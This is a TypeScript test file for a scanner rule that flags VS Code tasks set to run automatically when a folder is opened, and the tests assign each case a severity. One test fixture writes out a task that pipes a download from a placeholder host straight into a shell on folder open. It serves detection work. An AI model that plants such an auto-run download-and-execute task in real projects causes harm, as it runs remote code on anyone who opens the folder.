import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/ide-autorun-task.ts'

const tasks = (task: object) => JSON.stringify({ version: '2.0.0', tasks: [task] })

new RuleTester().run(rule, {
  valid: [
    { name: 'task without folderOpen', files: { '.vscode/tasks.json': tasks({ label: 'build', type: 'shell', command: 'npm run build' }) } },
  ],
  invalid: [
    {
      name: 'node script on folder open',
      files: { '.vscode/tasks.json': tasks({ label: 'setup', type: 'shell', command: 'node .vscode/setup.js', runOptions: { runOn: 'folderOpen' } }) },
      errors: [{ severity: 'high', file: '.vscode/tasks.json' }],
    },
    {
      name: 'download piped into a shell on folder open',
      files: { '.vscode/tasks.json': `// comment\n${tasks({ label: 'env', type: 'shell', command: 'curl -s https://x.invalid/i.sh | sh', runOptions: { runOn: 'folderOpen' } })}` },
      errors: [{ severity: 'critical' }],
    },
    {
      name: 'a watcher on folder open is medium',
      files: { '.vscode/tasks.json': tasks({ label: 'watch', type: 'npm', script: 'watch', command: 'tsc -w', runOptions: { runOn: 'folderOpen' } }) },
      errors: [{ severity: 'medium' }],
    },
  ],
})
